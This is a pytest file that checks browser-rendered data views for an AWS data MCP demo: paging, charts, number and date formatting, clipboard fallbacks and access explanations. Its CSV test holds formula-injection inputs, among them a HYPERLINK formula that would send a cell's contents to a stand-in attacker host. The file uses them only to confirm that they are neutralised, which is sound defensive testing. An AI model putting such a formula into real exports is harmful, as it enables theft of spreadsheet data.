"""Both views in a second MCP Apps host, written from the ext-apps documentation alone (views/test/docs-host.ts):
the host on its own origin, a sandbox proxy on a second one (views/test/sandbox.html), the view in the proxy's
srcdoc frame under a CSP with no domain, headless Chromium, a running demo server. What an analyst checks: scrolling
to the end of 2,000 rows reads the next page, charts only where they mean something, numbers and dates written for
people, the CSV safe to open in a spreadsheet, every action possible in a host without download or clipboard, the
host's maximum height, and the access view in words. Screenshots of each state go to docs/images when
AWS_DATA_MCP_SCREENSHOTS names that folder (else a temporary one)."""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from datetime import datetime
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from aws_data_mcp_demo.account.emulated import DemoAccount
from support.browser import demo_server, missing, node

MAX_DECIMALS = 6


@pytest.fixture(scope="module")
def seen(demo: DemoAccount, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """What the documentation host showed (views/test/independent.mjs), driven against the demo."""
    reason = missing()
    if reason:
        pytest.skip(reason)
    shots = Path(os.environ.get("AWS_DATA_MCP_SCREENSHOTS") or tmp_path_factory.mktemp("screenshots"))
    with demo_server(demo, tmp_path_factory.mktemp("built")) as url:
        yield json.loads(node("test/independent.mjs", url, str(shots), timeout=300))


def decimals(cells: list[str]) -> int:
    return max((len(m.group(1)) for cell in cells for m in re.finditer(r"\d\.(\d+)", cell)), default=0)


def column(given: dict[str, Any], name: str) -> list[Any]:
    """One column of the structured result the host handed the view, as Athena gave it."""
    index = [c["name"] for c in given["columns"]].index(name)
    return [row[index] for row in given["rows"]]


def as_given(value: Any) -> str:
    """A value written as Athena gave it (and as JavaScript's String() writes a number)."""
    return value if isinstance(value, str) else repr(value)


def assert_nice_ticks(ticks: list[str], top: float) -> None:
    """From 0 to just past the largest bar, a step of 1, 2 or 5 times a power of ten, grouped as the table groups."""
    values = [int(tick.replace(",", "")) for tick in ticks]
    assert ticks == [f"{value:,}" for value in values], ticks  # the table's grouping
    steps = {b - a for a, b in pairwise(values)}
    assert values[0] == 0 and len(steps) == 1, ticks
    step = steps.pop()
    assert re.fullmatch(r"[125]0*", str(step)), ticks
    assert values[-1] - step < top <= values[-1] and 3 <= len(values) <= 11, (ticks, top)


def test_scrolling_to_the_end_of_two_thousand_rows_reads_the_next_page_through_the_host(seen: dict[str, Any]) -> None:
    keyed = seen["keyed"]
    assert keyed["rows"] == 1000 and keyed["count"].startswith("rows 1\u20131,000, more to read")
    assert keyed["after_scroll"] == 2000  # by the mouse wheel, no button pressed
    assert len(keyed["reads"]) == 1 and keyed["reads"][0].startswith("resources/read athena://queries/")


def test_a_result_keyed_by_order_id_draws_no_chart_and_a_grouped_one_does(seen: dict[str, Any]) -> None:
    assert seen["keyed"]["charts"] == 0
    chart = seen["grouped"]["chart"]
    assert chart["label"] == "orders by channel" and chart["bars"] == seen["grouped"]["rows"] == 3
    assert chart["titles"] == ["channel", "orders"] and chart["x_labels"] == ["mobile", "store", "web"]
    assert_nice_ticks(chart["ticks"], max(float(n) for n in column(seen["grouped"]["given"], "orders")))
    assert chart["width"] == chart["table_width"]  # the full width
    # A choice of measure, and avg_price charted when chosen.
    assert seen["grouped"]["measures"] == ["orders", "total_amount", "avg_price"]
    assert seen["grouped"]["avg_chart"]["label"] == "avg_price by channel"
    assert seen["grouped"]["avg_chart"]["bars"] == 3
    # A daily series is a line over its dates; every row is drawn, so no "first N of M" note.
    assert seen["daily"]["label"] == "orders by order_date" and seen["daily"]["chart_note"] == 0
    assert seen["daily"]["x_labels"][:2] == ["Jan 1", "Jan 3"]  # short dates, as many as fit


def test_numbers_dates_and_money_are_written_for_people(seen: dict[str, Any]) -> None:
    for state in ("keyed", "grouped", "daily"):
        assert seen[state]["most_decimals"] <= MAX_DECIMALS
    cells, given = seen["grouped"]["cells"], seen["grouped"]["given"]
    channel, orders, total, average, last = given["rows"][0]
    placed = datetime.fromisoformat(str(last).replace(" ", "T"))
    assert cells[:5] == [channel, f"{int(orders):,}", f"{float(total):,.2f}", f"{float(average):,.2f}",
                         f"{placed:%b} {placed.day}, {placed.year}, {placed:%H:%M:%S}"], (cells, given["rows"][0])
    # A value the view rewrites for people keeps Athena's text on hover (what a click copies and the CSV holds).
    assert as_given(last) in seen["grouped"]["titles"]
    daily = seen["daily"]["cells"]
    assert daily[0] == "Jan 1, 2026" and seen["daily"]["first_title"] == "2026-01-01"
    assert daily[3].startswith("\u20ac") and "," in daily[3]  # EUR, said by the currency column


def test_the_csv_neutralises_formulas_and_keeps_numbers(seen: dict[str, Any]) -> None:
    formulas = seen["formulas"]
    expected = ["label,n,x", '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-2,1.50', "'@SUM(1+1),3,-0.25",
                "'+1+1,-7,2.00", "'-2+3,0,1.00"]
    assert formulas["downloaded"].split("\r\n")[:-1] == expected
    # A host without download support: the button says what it does, and the CSV is shown to select.
    assert "Download CSV" in formulas["buttons"] and "Download CSV" not in formulas["buttons_without_download"]
    assert "Show CSV" in formulas["buttons_without_download"]
    assert formulas["shown"].split("\n")[:-1] == expected


def test_a_wide_result_keeps_its_first_column_and_cuts_long_values_whole_on_copy(seen: dict[str, Any]) -> None:
    wide = seen["wide"]
    assert wide["columns"] == 13 and wide["scrolled"] > 100 and wide["charts"] == 0  # a listing by order_id
    assert wide["first_left"] - wide["box_left"] <= 2  # still at the left edge, scrolled sideways to the end
    assert wide["long"].endswith("\u2026") and len(wide["long"]) <= 61
    # The whole value, as Athena gave it, ending in the row's currency (the note is "... in <currency>").
    notes = dict(zip(column(wide["given"], "note"), column(wide["given"], "currency"), strict=True))
    assert wide["long_title"] == wide["copied"] and wide["copied"] in notes
    assert wide["copied"].endswith(f" in {notes[wide['copied']]}") and len(wide["copied"]) > len(wide["long"])


def test_a_click_on_a_cell_copies_athenas_value_where_the_host_grants_the_clipboard(seen: dict[str, Any]) -> None:
    copied = seen["grouped"]["copy"]
    average = as_given(column(seen["grouped"]["given"], "avg_price")[0])  # the cell shows it to 2 decimals
    assert copied == {"toast": ["Copied"], "box": 0, "clipboard": average}
    assert seen["explainer"]["copy_buttons"] == ["Copy"]


def test_every_action_works_in_a_host_without_its_features(seen: dict[str, Any]) -> None:
    # No clipboard permission: a click on a cell shows the whole value, selected, to copy by hand.
    assert seen["keyed"]["copy_box"] == "ORD-1000000" and "does not let the view copy" in seen["keyed"]["copy_title"]
    # Stopped by the cutoff: nothing to download and no empty row count.
    assert seen["cutoff"]["buttons"] == [] and "rows 0" not in seen["cutoff"]["text"]


def test_the_views_keep_within_the_hosts_maximum_height_and_report_no_empty_size(seen: dict[str, Any]) -> None:
    sizes = seen["keyed"]["sizes"]
    assert sizes and all(100 < size <= 600 for size in sizes), sizes


def test_the_access_view_speaks_in_sentences(seen: dict[str, Any]) -> None:
    access = seen["access"]
    levels = access["levels"]  # discover's count of buckets per level, as the view was given it
    sentences = {"write": "you can write to", "read": "you can read", "list": "you can only list",
                 "none": "you can reach none of"}
    assert levels and set(levels) <= set(sentences)
    assert access["legend"].split("\n") == [f"Of {sum(levels.values())} buckets:"] + [
        f"{sentence} {levels[level]}" for level, sentence in sentences.items() if levels.get(level)]
    assert "Reading an object (s3:GetObject) was denied." in access["detail"]
    assert "The write simulation weighed only the caller's IAM policies, not the bucket policy." in access["detail"]
    assert "simulated_with_bucket_policy" not in access["detail"]
    explained = seen["explainer"]
    if explained["answer_summary"]:  # the explainer's one-line summary (where the server gives one) comes first
        assert explained["first_line"] == explained["answer_summary"]
    assert "The check failed (access denied): Access denied" in explained["detail"]
    assert explained["overflowing"] == 0  # long fixes and "governed by" wrap, nothing clipped


def test_no_network_request_and_no_error_in_the_documentation_host(seen: dict[str, Any]) -> None:
    assert seen["network"] == []
    assert seen["errors"] == []
